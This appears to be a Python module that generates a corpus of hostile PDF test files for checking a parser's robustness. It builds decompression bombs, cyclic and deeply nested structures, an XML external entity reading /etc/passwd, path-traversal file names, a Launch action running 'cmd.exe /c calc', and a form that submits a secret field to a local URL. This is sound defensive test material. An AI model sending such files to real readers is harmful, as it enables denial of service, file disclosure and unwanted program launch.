"""Writes PDFs that want to do harm: bombs, loops, cycles, lies, scripts.

`PDFS` maps a name, which says what the file tries, to a function that makes it; nothing is kept. The
names of one family begin alike. What is made is small or quickly made; what it would become is not.
`hostile_files.HOSTILE` has these, and broken files and pictures.
"""

import random
import struct
import zlib
from collections.abc import Callable, Mapping
from functools import partial
from typing import Final

Part = bytes | str
GIGABYTE: Final = 1 << 30
_HELVETICA: Final = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_HELLO: Final = b"BT /F1 12 Tf 50 700 Td (hello) Tj ET"


# ---------------------------------------------------------------- building


def pdf(objects: Mapping[int, Part], trailer: str = "") -> bytes:
    """A PDF of these objects by number; object 1 is its catalog. Nothing is checked, so anything can be told."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + (body if isinstance(body, bytes) else body.encode("latin-1")) + b"\nendobj\n"
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n" % size
    for number in range(size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    return bytes(out) + f"trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode("latin-1")


def stream(data: bytes, entries: str = "", filters: str = "/FlateDecode", *, packed: bool = False) -> bytes:
    """A stream object; `packed` data is taken as it is."""
    body = data if packed or not filters else zlib.compress(data, 1)
    named = f"/Filter {filters}" if filters else ""
    return f"<< /Length {len(body)} {named} {entries} >>\nstream\n".encode("latin-1") + body + b"\nendstream"


def bomb(size: int, byte: int = 0) -> bytes:
    """Deflated data that becomes so many equal bytes: one packed piece over and over."""
    piece = size // 64
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes([byte]) * piece) + packer.flush(zlib.Z_FULL_FLUSH)
    count = 64 * piece
    low, high = (1 + count * byte) % 65521, (count + byte * count * (count + 1) // 2) % 65521
    return b"\x78\x01" + packed * 64 + b"\x03\x00" + struct.pack(">I", high << 16 | low)


def page(content: bytes = _HELLO, *, more: Mapping[int, Part] | None = None, catalog: str = "", entries: str = "", resources: str = "", box: str = "0 0 612 792", font: str = _HELVETICA, body: bytes | None = None) -> dict[int, Part]:
    """The objects 1 to 5 of a one-page document, each with what is to be added."""
    return {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> {resources} >> {entries} >>",
        4: stream(content) if body is None else body,
        5: font,
        **(more or {}),
    }


def _form(fields: str, more: Mapping[int, Part]) -> bytes:
    return pdf(page(catalog=f"/AcroForm << /Fields [{fields}] >>", more=more))


def _one_page_with(resource: str, content: bytes, more: Mapping[int, Part]) -> bytes:
    return pdf(page(content, resources=resource, more=more))


def _rng() -> random.Random:
    return random.Random(7)  # noqa: S311  (the same files each time)


# ---------------------------------------------------------------- pages and trees


def _pages(kids: str, count: int, more: Mapping[int, Part] | None = None) -> bytes:
    return pdf({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: f"<< /Type /Pages /Kids [{kids}] /Count {count} >>", **(more or {})})


def _pages_shared(levels: int, fan: int) -> bytes:
    """So many pages as fan to the power of levels, by naming the same kid again and again."""
    nodes = {number: f"<< /Type /Pages /Count 1 /Kids [{f'{number + 1} 0 R ' * fan}] >>" for number in range(2, 2 + levels)}
    return pdf({1: "<< /Type /Catalog /Pages 2 0 R >>", **nodes, 2 + levels: "<< /Type /Page /MediaBox [0 0 9 9] >>"})


def _pages_deep(levels: int) -> bytes:
    nodes = {number: f"<< /Type /Pages /Count 1 /Kids [{number + 1} 0 R] /Parent {number - 1} 0 R >>" for number in range(3, 3 + levels)}
    return _pages("3 0 R", 1, {**nodes, 3 + levels: f"<< /Type /Page /MediaBox [0 0 9 9] /Parent {2 + levels} 0 R >>"})


_PAGES: Final[Mapping[str, Callable[[], bytes]]] = {
    "pages-cycle": partial(_pages, "6 0 R", 1, {6: "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"}),
    "pages-own-kid": partial(_pages, "2 0 R", 1),
    "pages-shared-trillion": partial(_pages_shared, 12, 10),
    "pages-deep-5000": partial(_pages_deep, 5000),
    "pages-count-huge": partial(_pages, "", 2147483647),
    "pages-count-negative": partial(_pages, "3 0 R", -1, {3: "<< /Type /Page /MediaBox [0 0 9 9] >>"}),
    "pages-100000": lambda: _pages("3 0 R " * 100_000, 100_000, {3: "<< /Type /Page /MediaBox [0 0 9 9] /Parent 2 0 R >>"}),
    "pages-kids-no-array": lambda: pdf({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids (no) /Count 1 >>"}),
    "pages-none": lambda: pdf({1: "<< /Type /Catalog >>"}),
    "page-box-huge": lambda: pdf(page(box="0 0 1e9 1e9")),
    "page-box-turned-over": lambda: pdf(page(box="612 792 0 0")),
    "page-box-no-numbers": lambda: pdf(page(box="/a (b) null 1 0 R")),
    "page-box-infinite": lambda: pdf(page(box=f"0 0 {'9' * 400} {'9' * 400}.9")),
    "page-unit-huge": lambda: pdf(page(entries="/UserUnit 1e12")),
    "page-turned-oddly": lambda: pdf(page(entries="/Rotate 2147483647")),
    "outline-cycle": lambda: pdf(page(catalog="/Outlines 10 0 R", more={10: "<< /First 11 0 R /Last 12 0 R /Count 2 >>", 11: "<< /Title (a) /Next 12 0 R >>", 12: "<< /Title (b) /Next 11 0 R /First 11 0 R >>"})),
    "nested-arrays-object": lambda: pdf(page(entries="/X 6 0 R", more={6: b"[" * 100_000 + b"]" * 100_000})),
    "nested-arrays-page": lambda: pdf(page(entries="/X " + "[" * 100_000 + "]" * 100_000)),
    "nested-arrays-400": lambda: pdf(page(entries="/X " + "[" * 400 + "]" * 400)),
    "nested-dictionaries-catalog": lambda: pdf(page(catalog="/X " + "<< /A " * 50_000 + "1" + " >>" * 50_000)),
    "name-of-a-megabyte": lambda: pdf(page(catalog=f"/{'A' * 1_000_000} 1", entries=f"/B /{'C' * 1_000_000}")),
}


# ---------------------------------------------------------------- streams, fonts, drawing


def _layers(count: int) -> bytes:
    data = bomb(GIGABYTE, 32)
    for _ in range(count - 1):
        data = zlib.compress(data, 9)
    return data


def _filtered(data: bytes, filters: str, *, entries: str = "", packed: bool = False) -> bytes:
    return pdf(page(body=stream(data, entries, filters, packed=packed)))


def _laughs(levels: int, fan: int) -> bytes:
    """Forms that each draw the next one several times."""
    resource = "/Resources << /Font << /F1 5 0 R >> /XObject << /X {} 0 R >> >>"
    forms = {6 + level: stream(b"/X Do " * fan if level < levels - 1 else _HELLO, f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] {resource.format(7 + level)}") for level in range(levels)}
    return _one_page_with("/XObject << /X 6 0 R >>", b"/X Do", forms)


def _recursive_type3() -> bytes:
    glyph = b"9 0 d0 BT /F1 1 Tf (a) Tj (a) Tj (a) Tj ET"
    font = "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F1 5 0 R >> >> >>"
    return pdf(page(b"BT /F1 9 Tf (aaaa) Tj ET", font=font, more={6: stream(glyph)}))


def _recursive_pattern() -> bytes:
    tile = stream(b"/Pattern cs /P scn 0 0 9 9 re f", "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 8 0 R >> >>")
    return _one_page_with("/Pattern << /P 8 0 R >>", b"/Pattern cs /P scn 0 0 612 792 re f", {8: tile})


def _map(ranges: bytes, repeat: int = 1) -> bytes:
    """A font whose table of letters is a bomb."""
    font = "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>"
    below = "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /W [0 2147483647 500] /DW 1000 /CIDSystemInfo << /Registry (../../../etc) /Ordering (passwd) /Supplement 0 >> >>"
    return pdf(page(b"BT /F1 12 Tf <00410042> Tj ET", font=font, more={6: below, 7: stream((b"begincmap " + ranges + b" endcmap ") * repeat)}))


def _function_loop() -> bytes:
    space = "/ColorSpace << /C [/Separation /X /DeviceGray 8 0 R] >>"
    return _one_page_with(space, b"/C cs 0.5 scn 0 0 9 9 re f", {8: "<< /FunctionType 3 /Domain [0 1] /Functions [8 0 R 8 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>"})


def _scattered(mark: bytes, count: int) -> bytes:
    rng = _rng()
    return b"".join(b"%d %d " % (rng.randint(-600, 600), rng.randint(-780, 780)) + mark for _ in range(count))


_DRAWING: Final[Mapping[str, Callable[[], bytes]]] = {
    "bomb-gigabyte": lambda: _filtered(bomb(GIGABYTE), "/FlateDecode", packed=True),
    "bomb-in-bombs": lambda: _filtered(_layers(4), "[/FlateDecode /FlateDecode /FlateDecode /FlateDecode]", packed=True),
    "bomb-text-70-megabytes": lambda: pdf(page(b"BT /F1 12 Tf " + b"(A) Tj " * 10_000_000 + b"ET")),
    "bomb-text-20-megabytes": lambda: pdf(page(b"BT /F1 12 Tf " + b"(A) Tj " * 3_000_000 + b"ET")),
    "bomb-states": lambda: pdf(page(b"q " * 30_000_000)),
    "bomb-run-length": lambda: _filtered(b"\x81A" * 2_000_000, "[/FlateDecode /RunLengthDecode]"),
    "bomb-hexadecimal": lambda: _filtered(b"41" * 20_000_000, "[/FlateDecode /ASCIIHexDecode]"),
    "bomb-base-85": lambda: _filtered(b"z" * 15_000_000 + b"~>", "[/FlateDecode /ASCII85Decode]"),
    "bomb-columns": lambda: _filtered(b"\0" * 1000, "/FlateDecode", entries="/DecodeParms << /Predictor 15 /Columns 2147483647 >>"),
    "bomb-lzw": lambda: _filtered(b"\x80" * 5_000_000, "[/FlateDecode /LZWDecode]"),
    "filters-1000": lambda: _filtered(b"x", "[" + "/FlateDecode " * 1000 + "]"),
    "filter-unknown": lambda: _filtered(b"x", "/NoSuchDecode", packed=True),
    "length-huge": lambda: pdf(page(body=b"<< /Length 99999999999 >>\nstream\nBT ET\nendstream")),
    "length-negative": lambda: pdf(page(body=b"<< /Length -5 >>\nstream\nBT ET\nendstream")),
    "length-of-itself": lambda: pdf(page(body=b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream")),
    "drawing-itself": partial(_one_page_with, "/XObject << /X 6 0 R >>", b"/X Do", {6: stream(b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 6 0 R >> >>")}),
    "drawing-billion-laughs": partial(_laughs, 10, 10),
    "drawing-rectangles": lambda: pdf(page(_scattered(b"10 10 re f ", 100_000))),
    "drawing-nested": lambda: pdf(page(b"/A " + b"<</A " * 50_000 + b"1" + b">>" * 50_000 + b" DP BT (x) Tj ET")),
    "drawing-parentheses": lambda: pdf(page(b"BT " + b"(" * 10_000_000)),
    "drawing-hexadecimal-open": lambda: pdf(page(b"BT <" + b"4" * 10_000_000)),
    "drawing-picture-open": lambda: pdf(page(b"BI /W 1 /H 1 /F /DCT ID \xff\xd8" + b"x" * 3_000_000)),
    "drawing-pictures-many": lambda: pdf(page(b"BI /W 1 /H 1 /BPC 1 ID x" * 200_000)),
    "drawing-glyph-in-itself": _recursive_type3,
    "drawing-pattern-in-itself": _recursive_pattern,
    "drawing-function-in-itself": _function_loop,
    "drawing-clips": lambda: pdf(page(_scattered(b"400 400 re W n ", 100_000) + b"0 0 999 999 re f")),
    "text-far-away": lambda: pdf(page(b"BT /F1 12 Tf 99999999 99999999 Td (x) Tj -199999998 0 Td (y) Tj ET")),
    "text-overlapping": lambda: pdf(page(b"BT /F1 12 Tf " + _scattered(b"Td (x) Tj ", 100_000) + b"ET")),
    "text-size-huge": lambda: pdf(page(b"BT /F1 1e30 Tf (hello) Tj ET")),
    "font-ranges": partial(_map, b"100 beginbfrange " + b"".join(b"<0000> <ffff> <%04x>\n" % number for number in range(100)) + b"endbfrange", 30),
    "font-range-of-all": partial(_map, b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"),
    "font-encoding-outside": lambda: pdf(page(font="<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /..#2f..#2f..#2fetc#2fpasswd /DescendantFonts [6 0 R] >>", more={6: "<< /Subtype /CIDFontType2 >>"})),
    "font-broken": lambda: pdf(page(font="<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R >>", more={6: "<< /FontFile2 7 0 R /Flags 4 >>", 7: stream(b"\0\1\0\0\xff\xff" + b"\xff" * 2000)})),
}


# ---------------------------------------------------------------- fields


def _fields(count: int, entries: str = "") -> bytes:
    return _form("".join(f"{10 + number} 0 R " for number in range(count)), {10 + number: f"<< /FT /Tx /T (f{number}) /V (v{number}) /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R {entries} >>" for number in range(count)})


def _annotations(count: int, entries: str) -> bytes:
    return pdf(page(catalog="/AcroForm << /Fields [] >>", entries=f"/Annots [{'9 0 R ' * count}]", more={9: f"<< /Type /Annot /Rect [0 0 9 9] {entries} >>"}))


def _fields_deep(levels: int) -> bytes:
    nodes = {10 + level: f"<< /T (a) /Kids [{11 + level} 0 R] /Parent {9 + level} 0 R >>" for level in range(levels)}
    return _form("10 0 R", {**nodes, 10 + levels: f"<< /T (z) /FT /Tx /V (x) /Parent {9 + levels} 0 R >>"})


def _metadata(text: str) -> bytes:
    return pdf(page(catalog="/Metadata 9 0 R", more={9: stream(text.encode(), "/Type /Metadata /Subtype /XML")}))


def _laughing_metadata() -> str:
    entities = "".join(f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(9))
    return f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">{entities}]><x:xmpmeta xmlns:x="adobe:ns:meta/"><r>&j;</r></x:xmpmeta>'


_SCRIPT: Final = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_FIELDS: Final[Mapping[str, Callable[[], bytes]]] = {
    "fields-50000": partial(_fields, 50_000),
    "fields-named-alike": lambda: _form("10 0 R 11 0 R", {10: "<< /FT /Tx /T (name) /V (Alice) >>", 11: "<< /FT /Tx /T (name) /V (Mallory) >>"}),
    "fields-kids-cycle": lambda: _form("10 0 R", {10: "<< /FT /Tx /T (a) /Kids [11 0 R] >>", 11: "<< /T (b) /Parent 10 0 R /Kids [10 0 R] >>"}),
    "fields-parents-cycle": lambda: _form("10 0 R", {10: "<< /FT /Tx /T (a) /Parent 11 0 R /V (x) >>", 11: "<< /T (b) /Parent 10 0 R >>"}),
    "fields-deep-20000": partial(_fields_deep, 20_000),
    "fields-shared-billion": lambda: _form("10 0 R", {**{10 + level: f"<< /T (a) /Kids [{f'{11 + level} 0 R ' * 10}] >>" for level in range(9)}, 19: "<< /T (z) /FT /Tx /V (x) >>"}),
    "fields-value-60-megabytes": lambda: _form("10 0 R", {10: b"<< /FT /Tx /T (big) /V (" + b"A" * 60_000_000 + b") >>"}),
    "fields-value-bomb": lambda: _form("10 0 R", {10: "<< /FT /Tx /T (big) /V 11 0 R >>", 11: stream(bomb(GIGABYTE, 65), packed=True)}),
    "fields-value-of-itself": lambda: _form("10 0 R", {10: "<< /FT /Tx /T (a) /V 10 0 R >>"}),
    "fields-no-array": lambda: pdf(page(catalog="/AcroForm << /Fields 3 0 R >>")),
    "fields-form-no-dictionary": lambda: pdf(page(catalog="/AcroForm [1 2 3]")),
    "fields-scripts": lambda: pdf(page(catalog=f"/AcroForm << /Fields [10 0 R] >> /OpenAction {_SCRIPT} /AA << /WC {_SCRIPT} >>", more={10: f"<< /FT /Tx /T (n) /V (<script>1</script>) /AA << /K {_SCRIPT} >> >>"})),
    "fields-sent-elsewhere": lambda: pdf(page(catalog="/AcroForm << /Fields [10 0 R] >> /OpenAction << /S /SubmitForm /F << /FS /URL /F (http://127.0.0.1:9/leak) >> /Flags 4 >>", more={10: "<< /FT /Tx /T (a) /V (secret) >>"})),
    "fields-xfa-bomb": lambda: pdf(page(catalog="/AcroForm << /Fields [] /XFA [(template) 9 0 R (datasets) 9 0 R] >>", more={9: stream(bomb(GIGABYTE, 65), packed=True)})),
    "annotations-100000-widgets": partial(_annotations, 100_000, "/Subtype /Widget /FT /Tx /T (a) /V (b)"),
    "annotations-100000-drawn": partial(_annotations, 100_000, "/Subtype /Square"),
    "annotations-of-annotations": lambda: pdf(page(catalog="/AcroForm << /Fields [] >>", entries="/Annots 9 0 R", more={9: "[9 0 R 9 0 R [9 0 R]]"})),
    "annotation-look-in-itself": lambda: pdf(page(entries="/Annots [9 0 R]", more={9: "<< /Type /Annot /Subtype /Stamp /Rect [0 0 99 99] /AP << /N 10 0 R >> >>", 10: stream(b"/X Do", "/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R >> >>")})),
    "metadata-laughs": lambda: _metadata(_laughing_metadata()),
    "metadata-reads-files": lambda: _metadata('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&x;</x:xmpmeta>'),
    "carries-a-program": lambda: pdf(page(catalog="/Names << /EmbeddedFiles << /Names [(../../etc/cron.d/x) 9 0 R] >> >>", more={9: "<< /Type /Filespec /F (../../etc/cron.d/x) /EF << /F 10 0 R >> >>", 10: stream(b"MZ" * 100, "/Type /EmbeddedFile")})),
    "starts-a-program": lambda: pdf(page(catalog="/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")),
}

PDFS: Final[Mapping[str, Callable[[], bytes]]] = {**_PAGES, **_DRAWING, **_FIELDS}
